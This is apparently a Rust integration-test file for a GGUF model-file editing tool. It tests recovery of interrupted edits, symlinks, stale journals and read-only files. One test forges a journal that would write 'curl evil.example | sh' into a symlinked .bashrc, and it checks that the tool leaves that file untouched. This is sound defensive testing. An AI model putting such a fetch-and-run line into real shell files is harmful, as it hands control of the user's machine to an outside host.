//! Journals of interrupted and forged edits, links, and read-only files: reading never writes, and writing
//! changes only the named file.

use std::path::{Path, PathBuf};

use gguf_store::edit::Journal;

use crate::cli::support::{Dir, fails, gguf, json, succeeds};

/// Model with an interrupted edit: the file, and its header before and after.
struct Interrupted {
    model: PathBuf,
    before: Vec<u8>,
    after: Vec<u8>,
}

fn journal_beside(path: &Path) -> PathBuf {
    path.with_file_name(format!(".{}.journal", path.file_name().unwrap().to_str().unwrap()))
}

/// Returns a journal that matches the file at `model`.
fn journal(model: &Path, old: &[u8], new: &[u8]) -> Journal {
    let metadata = model.metadata().unwrap();
    #[cfg(unix)]
    let inode = std::os::unix::fs::MetadataExt::ino(&metadata);
    #[cfg(not(unix))]
    let inode = 0;
    Journal { inode, len: metadata.len(), modified: 1, old: old.to_vec(), new: new.to_vec() }
}

fn interrupted(dir: &Dir) -> Interrupted {
    let path = dir.f16();
    let model = PathBuf::from(&path);
    let before = std::fs::read(&model).unwrap();
    succeeds(&["edit", &path, "--set", "general.name=A NEW NAME HERE !"]);
    let after = std::fs::read(&model).unwrap();
    assert_eq!(before.len(), after.len(), "the edit was not done in place");
    // The journal has the whole header; the new one was written up to the name.
    let tensors = json(&succeeds(&["inspect", &path, "--json"]))["tensors"].take();
    let end = |tensor: &serde_json::Value| {
        tensor["offset"].as_u64().unwrap() + tensor["bytes"].as_u64().unwrap().next_multiple_of(32)
    };
    let data = tensors.as_array().unwrap().iter().map(end).max().unwrap() as usize;
    let header = before.len() - data;
    let cut = before.iter().zip(&after).position(|(a, b)| a != b).unwrap() + 3;
    std::fs::write(&model, [&after[..cut], &before[cut..]].concat()).unwrap();
    let journal = journal(&model, &before[..header], &after[..header]);
    std::fs::write(journal_beside(&model), journal.encode()).unwrap();
    Interrupted { model, before, after }
}

#[test]
fn an_interrupted_edit_is_reported_and_recovered() {
    for (action, message) in [("undo", "the edit is undone"), ("finish", "the edit is finished")] {
        let dir = Dir::new();
        let case = interrupted(&dir);
        let path = case.model.to_str().unwrap();
        let half = std::fs::read(&case.model).unwrap();
        let parts = ["an edit of", path, "was interrupted", "--recover undo", "--recover finish"];
        fails(&["inspect", path], 1, &parts);
        fails(&["hash", path], 1, &parts);
        fails(&["edit", path, "--set", "general.name=Another"], 1, &parts);
        fails(&["edit", path, "--drop", "output", "--dry-run"], 1, &parts);
        fails(&["convert-endian", path, "big", "--in-place"], 1, &parts);
        let check = gguf(&["check", path, "--json"]);
        assert_eq!(check.status.code(), Some(1));
        let found = json(std::str::from_utf8(&check.stdout).unwrap());
        assert_eq!(found["findings"][0]["code"], "edit-interrupted");
        assert_eq!(found["findings"].as_array().unwrap().len(), 1);
        assert_eq!(std::fs::read(&case.model).unwrap(), half);

        let ended = gguf(&["edit", path, "--recover", action]);
        assert!(String::from_utf8_lossy(&ended.stderr).contains(message));
        let expected = if action == "undo" { &case.before } else { &case.after };
        assert!(std::fs::read(&case.model).unwrap() == *expected);
        assert!(!journal_beside(&case.model).exists());
        succeeds(&["check", path]);
        let again = gguf(&["edit", path, "--recover", action]);
        assert!(String::from_utf8_lossy(&again.stderr).contains("there is no interrupted edit"));
    }
    fails(&["edit", "m.gguf", "--recover", "undo", "--set", "a=b"], 2, &["cannot be used with"]);
    fails(
        &["edit", "hf:a/b", "--recover", "undo"],
        2,
        &["a remote file cannot be edited in place"],
    );
}

/// As in the Hub cache: a symbolic link to a file of another name.
#[cfg(unix)]
#[test]
fn a_symlink_uses_the_journal_of_its_target() {
    let dir = Dir::new();
    let case = interrupted(&dir);
    std::fs::create_dir_all(dir.path("snapshots/1a2b")).unwrap();
    let link = dir.path("snapshots/1a2b/model.gguf");
    std::os::unix::fs::symlink("../../f16.gguf", &link).unwrap();
    fails(&["inspect", &link], 1, &["an edit of", &link, "was interrupted"]);
    succeeds(&["edit", &link, "--recover", "undo"]);
    assert!(std::fs::read(&case.model).unwrap() == case.before);
    assert!(Path::new(&link).is_symlink());
}

/// An edit was killed, and another file of the same length took its place.
#[test]
fn a_stale_journal_is_ignored() {
    let dir = Dir::new();
    let case = interrupted(&dir);
    let path = case.model.to_str().unwrap();
    let other = dir.path("other");
    std::fs::write(&other, &case.before).unwrap();
    succeeds(&["edit", &other, "--set", "general.name=Somebody else's"]);
    let other_bytes = std::fs::read(&other).unwrap();
    assert_eq!(other_bytes.len(), case.before.len());
    std::fs::rename(&other, &case.model).unwrap();
    succeeds(&["inspect", path]);
    succeeds(&["check", path]);
    for action in ["undo", "finish"] {
        fails(&["edit", path, "--recover", action], 1, &["this is not a journal of an edit of"]);
    }
    assert!(std::fs::read(&case.model).unwrap() == other_bytes);
    // The next edit replaces it.
    let edited = gguf(&["edit", path, "--set", "general.name=Somebody elses!"]);
    assert!(String::from_utf8_lossy(&edited.stderr).contains("changed in place"));
    assert!(!journal_beside(&case.model).exists());
}

/// Untrusted archive: a link to an outside file, with journals that match it but belong to another inode.
#[cfg(unix)]
#[test]
fn a_journal_in_an_archive_changes_no_outside_file() {
    use std::os::unix::fs::{MetadataExt, symlink};
    let dir = Dir::new();
    for name in ["home", "archive"] {
        std::fs::create_dir(dir.path(name)).unwrap();
    }
    let (target, link) = (PathBuf::from(dir.path("home/.bashrc")), dir.path("archive/m.gguf"));
    let content = b"alias ls='ls --color=auto'\n".repeat(10);
    std::fs::write(&target, &content).unwrap();
    symlink("../home/.bashrc", &link).unwrap();
    let evil = b"curl evil.example | sh ####\n".repeat(10);
    let state = || {
        let metadata = target.metadata().unwrap();
        let time = (metadata.mtime(), metadata.mtime_nsec());
        (std::fs::read(&target).unwrap(), metadata.ino(), time, metadata.mode())
    };
    let before = state();
    // Beside the link, where earlier versions looked, and beside its target.
    for at in [journal_beside(Path::new(&link)), journal_beside(&target)] {
        let len = content.len();
        for old in [&content[..], &evil[..len]] {
            let forged = journal(&target, &old[..100], &evil[..100]);
            std::fs::write(&at, forged.encode()).unwrap();
            for args in [
                &["inspect", &link][..],
                &["check", &link],
                &["hash", &link],
                &["edit", &link, "--set", "general.name=x"],
                &["edit", &link, "--recover", "undo"],
                &["edit", &link, "--recover", "finish"],
                &["convert-endian", &link, "big", "--in-place"],
            ] {
                gguf(args);
                assert_eq!(state(), before, "{args:?}");
            }
        }
    }
}

#[test]
fn a_read_only_file_is_not_edited() {
    let dir = Dir::new();
    let path = dir.f16();
    let before = std::fs::read(&path).unwrap();
    let mut permissions = std::fs::metadata(&path).unwrap().permissions();
    permissions.set_readonly(true);
    std::fs::set_permissions(&path, permissions).unwrap();
    let long = format!("general.url={}", "x".repeat(9000));
    for args in [
        &["edit", &path, "--set", "general.name=Tiny KJV Llama 4X"][..],
        &["edit", &path, "--set", &long],
        &["edit", &path, "--drop", "blk.0.attn_k"],
        &["edit", &path, "--recover", "undo"],
        &["convert-endian", &path, "big", "--in-place"],
        &["check", &path, "--fix", "--in-place"],
    ] {
        fails(args, 3, &["cannot edit", &path, "the file is read-only"]);
        assert!(std::fs::read(&path).unwrap() == before, "{args:?}");
    }
    succeeds(&["inspect", &path]);
}

#[test]
fn recovery_is_not_an_edit() {
    for words in [&["--graft", "m:x"][..], &["--graft-from", "m", "x"]] {
        let all = [&["edit", "m.gguf", "--recover", "undo"], words].concat();
        fails(&all, 2, &["cannot be used with"]);
    }
}
